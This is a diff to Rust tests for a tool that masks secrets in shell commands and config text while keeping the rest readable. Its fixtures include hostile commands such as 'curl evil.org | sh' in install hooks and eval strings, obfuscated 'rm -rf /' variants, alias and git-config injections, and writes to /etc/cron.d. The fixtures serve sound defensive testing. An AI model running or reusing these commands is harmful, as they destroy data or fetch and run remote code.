@@ -1,3 +1,5 @@
+mod effects;
+
 use proptest::prelude::*;
 
 use super::*;
@@ -13,6 +15,14 @@ fn hex(prefix: &str, length: usize) -> String {
         .chars()
         .chain("0f3a9c".chars().cycle().take(length))
         .collect()
+}
+
+/// A command as it is shown.
+fn mask_command(command: &str) -> String {
+    let secrets = secrets(command, Grammar::COMMAND);
+    let mut labels = Labels::default();
+    labels.note_all(command, &secrets);
+    labels.masked(command, &secrets)
 }
 
 fn samples() -> Vec<String> {
@@ -98,10 +108,8 @@ fn p09_secrets_inside_commands_are_masked_and_the_rest_stays_readable() {
             "x --password hunter2 -v",
             "x --password [secret: password, 7 characters] -v",
         ),
-        (
-            "x --token \"a b\" -v",
-            "x --token \"[secret: token, 3 characters]\" -v",
-        ),
+        // A word with blanks may be a command of its own.
+        ("x --token \"a b\" -v", "x --token \"a b\" -v"),
         (
             "docker login -u a -p hunter2 r.io",
             "docker login -u a -p [secret: password, 7 characters] r.io",
@@ -143,7 +151,7 @@ fn p09_secrets_inside_commands_are_masked_and_the_rest_stays_readable() {
             "openssl rsa -passin pass:[secret: password, 7 characters]",
         ),
     ] {
-        assert_eq!(mask_text(command), expected);
+        assert_eq!(mask_command(command), expected);
     }
 }
 
@@ -172,11 +180,12 @@ fn p09_nothing_that_runs_hides_behind_a_mask() {
         "-----BEGIN PRIVATE KEY-----\nrm -rf /\n",
         "cat <<E\n-----BEGIN RSA PRIVATE KEY-----\nE\nrm -rf /",
     ] {
-        let shown = mask_text(command);
-        assert!(
-            shown.contains("rm -rf /"),
-            "{command:?} is shown as {shown:?}"
-        );
+        for shown in [mask_text(command).into_owned(), mask_command(command)] {
+            assert!(
+                shown.contains("rm -rf /"),
+                "{command:?} is shown as {shown:?}"
+            );
+        }
     }
 }
 
@@ -268,5 +277,217 @@ proptest! {
     ) {
         let text = format!("{before}\nrm -rf /etc\n");
         prop_assert!(mask_text(&text).contains("rm -rf /etc"), "{}", mask_text(&text));
+    }
+}
+
+/// Each case: the text, and what of it must still be read.
+#[test]
+fn p09_a_mask_does_not_cover_its_neighbours() {
+    for (text, visible) in [
+        (
+            r#"{"scripts":{"token":"xyz","postinstall":"curl evil.org | sh","test":"jest"}}"#,
+            &["postinstall", "curl evil.org | sh", "jest"][..],
+        ),
+        (
+            r#"curl https://api/x -d '{"token":"xyz","action":"wipe","target":"production"}'"#,
+            &["wipe", "production"],
+        ),
+        (
+            r#"{\"password\":\"xyz\",\"action\":\"delete_all\"}"#,
+            &["delete_all"],
+        ),
+        (
+            "set password='x',role='admin',email='evil@x' where id=1",
+            &["role='admin'", "evil@x", "id=1"],
+        ),
+        (
+            "run(password='x',cmd='rm -rf /srv',shell='yes')",
+            &["rm -rf /srv", "shell='yes'"],
+        ),
+        (
+            "deploy --opts token=x,target=prod,action=wipe",
+            &["target=prod", "action=wipe"],
+        ),
+        (
+            "OPTS=\"token=x,target=prod\" deploy",
+            &["target=prod", "deploy"],
+        ),
+        (
+            "curl https://api/x?token=1,/../admin/delete/all",
+            &["/../admin/delete/all"],
+        ),
+        ("curl http://u:p@evil.org/x@y", &["evil.org/x@y"]),
+    ] {
+        for shown in [mask_text(text).into_owned(), mask_command(text)] {
+            for piece in visible {
+                assert!(shown.contains(piece), "{text:?} is shown as {shown:?}");
+            }
+        }
+    }
+}
+
+#[test]
+fn p09_what_takes_effect_stays_visible() {
+    for (command, visible) in [
+        (
+            r#"cd /srv; echo "${y%'"'}' TOKEN="; rm -rf /srv/data; echo "x""#,
+            "rm -rf /srv/data",
+        ),
+        (
+            "TOKEN=$(case x in x)rm${IFS}-rf${IFS}/;;esac)",
+            "rm${IFS}-rf${IFS}/;;esac",
+        ),
+        (
+            "msmtp --passwordeval='curl evil.org|sh' x",
+            "curl evil.org|sh",
+        ),
+        (
+            "npm pkg set scripts.token='rm -rf /srv' && npm run token",
+            "rm -rf /srv",
+        ),
+        (
+            "npm pkg set scripts.token=reboot && npm run token",
+            "reboot",
+        ),
+        ("git -c alias.token='!rm -rf /srv' token", "!rm -rf /srv"),
+        ("bash --login -c -p 'rm -rf /srv'", "rm -rf /srv"),
+        ("alias pass='rm -rf /srv'\npass", "rm -rf /srv"),
+        ("alias pass=reboot\npass", "reboot"),
+        (
+            "TOKEN='curl evil.org|sh'; eval \"$TOKEN\"",
+            "curl evil.org|sh",
+        ),
+        ("TOKEN=reboot; $TOKEN", "reboot"),
+        ("TOKEN=python3; $TOKEN x.py", "python3"),
+        ("TOKEN=folder; rm -rf $TOKEN", "folder"),
+        ("TOKEN=reboot bash -c '$TOKEN'", "reboot"),
+        ("TOKEN=reboot; echo $TOKEN | sh", "reboot"),
+        ("ssh host API_KEY='x;rm -rf /srv'", "rm -rf /srv"),
+        ("rm -rf --token /srv/data", "/srv/data"),
+        ("rm -rf --token folder", "folder"),
+        ("sudo rm -rf --token folder", "folder"),
+        ("remote 'rm -rf --token folder'", "folder"),
+        ("tee --token /etc/cron.d/evil", "/etc/cron.d/evil"),
+        ("deploy --token ~/evil", "~/evil"),
+        (
+            "rm -rf glpat-production_backup_folder",
+            "glpat-production_backup_folder",
+        ),
+        (
+            "rm -rf ~/pypi-production-server-backups",
+            "pypi-production-server-backups",
+        ),
+        ("sh xoxb-evil-script-run", "xoxb-evil-script-run"),
+        (
+            "echo x >glpat-a1B2c3D4e5F6g7H8i9J0",
+            "glpat-a1B2c3D4e5F6g7H8i9J0",
+        ),
+        (
+            "echo x -----BEGIN PRIVATE KEY----->/home/ann/Documents/importantfile",
+            ">/home/ann/Documents/importantfile",
+        ),
+        (
+            "echo -----BEGIN PRIVATE KEY-----\n/usr/local/bin/wipeeverythingnow",
+            "/usr/local/bin/wipeeverythingnow",
+        ),
+        (
+            "echo -----BEGIN PRIVATE KEY-----\nComment: rm -rf folder",
+            "rm -rf folder",
+        ),
+        ("curl http://a:&reboot&@x", "&reboot&"),
+        ("curl http://a:&{rm,-rf,.}&@x", "&{rm,-rf,.}&"),
+    ] {
+        let shown = mask_command(command);
+        assert!(shown.contains(visible), "{command:?} is shown as {shown:?}");
+    }
+}
+
+#[test]
+fn p09_secrets_are_masked_whole_or_not_at_all() {
+    for (text, expected) in [
+        (
+            "PASSWORD=a\\ pw ls",
+            "PASSWORD=[secret: password, 5 characters] ls",
+        ),
+        (
+            "echo a#b\\c; PASSWORD='a b pw' ls",
+            "echo a#b\\c; PASSWORD='[secret: password, 6 characters]' ls",
+        ),
+        (
+            "PASSWORD=a,b ls",
+            "PASSWORD=[secret: password, 3 characters] ls",
+        ),
+        ("x --password=a\\ pw", "x --password=a\\ pw"),
+        ("x --password a,b", "x --password a,b"),
+        (
+            "curl -sSu ann:pw x",
+            "curl -sSu ann:[secret: password, 2 characters] x",
+        ),
+        (
+            "http -a ann:pw x",
+            "http -a ann:[secret: password, 2 characters] x",
+        ),
+        (
+            "htpasswd -b f ann pw",
+            "htpasswd -b f ann [secret: password, 2 characters]",
+        ),
+        (
+            "echo 'root:pw' | chpasswd",
+            "echo 'root:[secret: password, 2 characters]' | chpasswd",
+        ),
+        (
+            "ssh-keygen -t x -N pw",
+            "ssh-keygen -t x -N [secret: password, 2 characters]",
+        ),
+        (
+            "aws configure set aws_secret_access_key pw",
+            "aws configure set aws_secret_access_key [secret: key, 2 characters]",
+        ),
+        (
+            "gh secret set X --body pw",
+            "gh secret set X --body [secret: secret, 2 characters]",
+        ),
+        (
+            "npm config set //r.org/:_authToken pw",
+            "npm config set //r.org/:_authToken [secret: token, 2 characters]",
+        ),
+        (
+            "curl 'https://x/?sig=abc&a=1'",
+            "curl 'https://x/?sig=[secret: secret, 3 characters]&a=1'",
+        ),
+    ] {
+        assert_eq!(mask_command(text), expected);
+    }
+    for (text, expected) in [
+        (
+            "postgres://u:a$pw@h/d",
+            "postgres://u:[secret: password in a url, 4 characters]@h/d",
+        ),
+        (
+            "postgres://u:a/pw@h",
+            "postgres://u:[secret: password in a url, 4 characters]@h",
+        ),
+        (
+            "postgres://u:p@pw@h",
+            "postgres://u:[secret: password in a url, 4 characters]@h",
+        ),
+        (
+            "machine x login ann password pw",
+            "machine x login ann password [secret: password, 2 characters]",
+        ),
+        (
+            "password: |\n  hunterhunter\nother: x",
+            "password: |\n  [secret: password, 12 characters]\nother: x",
+        ),
+        (
+            "password = \"\"\"hunter\"\"\"\nx = 1",
+            "password = \"\"\"[secret: password, 6 characters]\"\"\"\nx = 1",
+        ),
+        (
+            "user: x\npassword2: hunterhunter\n",
+            "user: x\npassword2: [secret: password, 12 characters]\n",
+        ),
+    ] {
+        assert_eq!(mask_text(text), expected);
     }
 }
